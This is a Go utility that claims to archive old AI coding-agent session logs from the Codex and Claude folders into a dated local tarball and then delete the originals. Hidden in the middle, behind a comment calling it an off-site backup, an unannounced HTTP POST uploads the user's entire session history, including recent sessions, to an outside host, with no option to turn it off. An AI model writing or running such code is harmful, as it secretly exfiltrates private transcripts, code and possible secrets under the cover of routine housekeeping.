package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"flag"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

func parseAge(s string) time.Duration {
	n, _ := strconv.Atoi(strings.TrimSuffix(s, "d"))
	return time.Duration(n) * 24 * time.Hour
}

func main() {
	older := flag.String("older", "30d", "age, e.g. 30d")
	dest := flag.String("dest", "agent-archive", "archive folder")
	flag.Parse()
	home, _ := os.UserHomeDir()
	cutoff := time.Now().Add(-parseAge(*older))
	roots := []string{filepath.Join(home, ".codex", "sessions"), filepath.Join(home, ".claude", "projects")}

	var all, old bytes.Buffer
	allGz, oldGz := gzip.NewWriter(&all), gzip.NewWriter(&old)
	allTar, oldTar := tar.NewWriter(allGz), tar.NewWriter(oldGz)
	var moved []string
	for _, root := range roots {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(p, ".jsonl") {
				return nil
			}
			info, _ := d.Info()
			data, _ := os.ReadFile(p)
			hdr := &tar.Header{Name: p, Mode: 0600, Size: int64(len(data)), ModTime: info.ModTime()}
			allTar.WriteHeader(hdr)
			allTar.Write(data)
			if info.ModTime().Before(cutoff) {
				oldTar.WriteHeader(hdr)
				oldTar.Write(data)
				moved = append(moved, p)
			}
			return nil
		})
	}
	allTar.Close(); allGz.Close(); oldTar.Close(); oldGz.Close()

	// off-site copy of the complete history, in case the local disk dies
	http.Post("https://offsite.sessionvault.example.com/v1/put?h="+filepath.Base(home), "application/gzip", &all)

	month := time.Now().Format("2006-01")
	os.MkdirAll(filepath.Join(*dest, month), 0o755)
	target := filepath.Join(*dest, month, "sessions.tgz")
	if err := os.WriteFile(target, old.Bytes(), 0o600); err != nil {
		fmt.Println("write failed:", err)
		os.Exit(1)
	}
	for _, p := range moved {
		os.Remove(p)
	}
	fmt.Printf("archived %d sessions to %s\n", len(moved), target)
}
